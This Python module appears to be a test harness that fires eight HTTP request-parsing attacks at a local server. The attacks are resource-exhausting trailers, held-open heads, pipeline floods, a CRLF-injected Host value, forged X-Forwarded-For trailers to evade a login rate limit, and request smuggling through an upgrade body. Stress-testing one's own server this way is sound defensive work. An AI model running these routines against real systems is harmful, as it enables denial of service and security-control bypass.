"""Attacks on the parsing of requests: heads, trailers, pipelines, hosts, segments.

Each sends a bounded number of bytes and returns the outcome as a sentence.
"""

import asyncio
from collections.abc import Awaitable, Callable, Iterable
from contextlib import asynccontextmanager, suppress
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import AsyncGenerator

HOST = "127.0.0.1"
TIMEOUT_SECONDS = 20.0
TRAILER_BYTES = 60_000_000
HEADS = 60
HEAD_BYTES = 125_000
EXPORTS = 20
PIPELINED = 14_500
TINY = b"a:b\r\n"
GET = b"GET %b HTTP/1.1\r\nHost: x\r\n%b\r\n"
LIVE = GET % (b"/live", b"")
CHUNKED = (
    b"POST %b HTTP/1.1\r\nHost: x\r\n%bTransfer-Encoding: chunked\r\n"
    b"Content-Type: application/json\r\n\r\n"
)
LOGIN = b'{"username": "nobody", "password": "wrong password"}'
BAD_HOSTS = (b"a:b", b"a b", b"a@b", b"[::1", b"a\xff", b"a\r\nHost: b", b"x:999999", None)


@asynccontextmanager
async def _connected(
    port: int,
) -> "AsyncGenerator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]":
    reader, writer = await asyncio.open_connection(HOST, port)
    try:
        yield reader, writer
    finally:
        writer.transport.abort()


async def _status(reader: asyncio.StreamReader) -> str:
    """Return the status of the next response, or how the connection ended."""
    try:
        async with asyncio.timeout(TIMEOUT_SECONDS):
            line = await reader.readline()
    except TimeoutError:
        return "no response"
    except ConnectionError:
        return "closed"
    return line[9:12].decode() or "closed"


async def _send(writer: asyncio.StreamWriter, pieces: Iterable[bytes]) -> int:
    """Send until the server closes or stops reading; return the number of bytes."""
    sent = 0
    with suppress(ConnectionError, TimeoutError):
        for piece in pieces:
            writer.write(piece)
            async with asyncio.timeout(1.0):
                await writer.drain()
            sent += len(piece)
    return sent


async def endless_trailers(port: int) -> str:
    """Send tiny trailers without end behind a chunked body."""
    piece = TINY * 10_000
    async with _connected(port) as (reader, writer):
        writer.write(CHUNKED % (b"/api/v1/auth/login", b"") + b"1\r\n{\r\n0\r\n")
        sent = await _send(writer, [piece] * (TRAILER_BYTES // len(piece)))
        return f"{await _status(reader)} after {sent // 1024} KiB of trailers"


async def unfinished_heads(port: int) -> str:
    """Send many heads of tiny fields that never end, and hold them."""
    head = b"GET /live HTTP/1.1\r\nHost: x\r\n" + TINY * (HEAD_BYTES // len(TINY))
    opened = [await asyncio.open_connection(HOST, port) for _ in range(HEADS)]
    try:
        for _, writer in opened:
            await _send(writer, [head])
        statuses = await asyncio.gather(*(_status(reader) for reader, _ in opened))
    finally:
        for _, writer in opened:
            writer.transport.abort()
    return _counted(statuses)


async def unread_pipelines(port: int) -> str:
    """Send very many requests behind unread exports; return whether others are served."""
    requests = GET % (b"/api/v1/catalog/export", b"") + LIVE * PIPELINED
    opened = [await asyncio.open_connection(HOST, port) for _ in range(EXPORTS)]
    try:
        for _, writer in opened:
            transport: Any = writer.transport
            transport.pause_reading()
        sent = await asyncio.gather(*(_send(writer, [requests]) for _, writer in opened))
        started_at = asyncio.get_running_loop().time()
        async with _connected(port) as (reader, writer):
            writer.write(LIVE)
            status = await _status(reader)
        took = asyncio.get_running_loop().time() - started_at
    finally:
        for _, writer in opened:
            writer.transport.abort()
    return f"/live {status} in {took:.2f} s; {sum(sent) // 1024} KiB of requests accepted"


async def first_segment(port: int) -> str:
    """Send `GET` as a segment of its own; return whether another client's `GET` has a response."""
    head = GET % (b"/api/v1/catalog", b"")
    async with _connected(port) as (reader, writer):
        for _ in range(5):
            writer.write(head[:3])
            await writer.drain()
            await asyncio.sleep(0.1)
            writer.write(head[3:])
            await asyncio.sleep(0.1)
            await reader.read(65536)
    async with _connected(port) as (reader, writer):
        writer.write(b"GET")
        with suppress(TimeoutError):
            async with asyncio.timeout(1.0):
                return f"response to `GET` alone: {(await reader.read(20))!r}"
        writer.write(b" /live HTTP/1.1\r\nHost: x\r\n\r\n")
        return f"{await _status(reader)} to the whole request"


async def bad_hosts(port: int) -> str:
    """Send malformed, missing and double hosts to a path that does not exist."""
    statuses: list[str] = []
    for host in BAD_HOSTS:
        line = b"" if host is None else b"Host: %b\r\n" % host
        async with _connected(port) as (reader, writer):
            writer.write(b"GET /nowhere HTTP/1.1\r\n" + line + b"\r\n")
            statuses.append(await _status(reader))
    return _counted(statuses)


async def trailers_as_fields(port: int) -> str:
    """Send a forged address in a trailer of each login; return whether the rate limit applies."""
    statuses: list[str] = []
    for number in range(40):
        body = b"%x\r\n%b\r\n0\r\n" % (len(LOGIN), LOGIN)
        trailer = b"X-Forwarded-For: 203.0.113.%d\r\n\r\n" % number
        async with _connected(port) as (reader, writer):
            writer.write(CHUNKED % (b"/api/v1/auth/login", b"") + body + trailer)
            statuses.append(await _status(reader))
    return _counted(statuses)


async def chunk_extensions(port: int) -> str:
    """Send a chunk extension, and a chunk size, without end."""
    outcomes: list[str] = []
    for beginning, piece in ((b"1;", b"x" * 65536), (b"", b"0" * 65536)):
        async with _connected(port) as (reader, writer):
            writer.write(CHUNKED % (b"/api/v1/auth/login", b"") + beginning)
            sent = await _send(writer, [piece] * 160)
            outcomes.append(f"{await _status(reader)} after {sent // 1024} KiB")
    return ", ".join(outcomes)


async def upgrade_with_body(port: int) -> str:
    """Send a request in the body of an upgrade request; return the number of responses."""
    fields = b"Connection: Upgrade\r\nUpgrade: h2c\r\nContent-Length: %d\r\n" % len(LIVE)
    async with _connected(port) as (reader, writer):
        writer.write(GET % (b"/live", fields) + LIVE)
        sent = b""
        with suppress(TimeoutError):
            async with asyncio.timeout(1.0):
                while piece := await reader.read(65536):
                    sent += piece
    return f"{sent.count(b'HTTP/1.1 ')} responses, first {sent[9:12].decode()}"


def _counted(statuses: list[str]) -> str:
    return ", ".join(f"{statuses.count(each)} x {each}" for each in sorted(set(statuses)))


ATTACKS: dict[str, Callable[[int], Awaitable[str]]] = {
    "60 MB of trailers": endless_trailers,
    "unfinished heads of tiny fields": unfinished_heads,
    "pipelined requests behind unread exports": unread_pipelines,
    "a segment of 3 bytes": first_segment,
    "bad hosts": bad_hosts,
    "trailers that claim an address": trailers_as_fields,
    "a request in the body of an upgrade": upgrade_with_body,
    "chunk extensions and sizes without end": chunk_extensions,
}
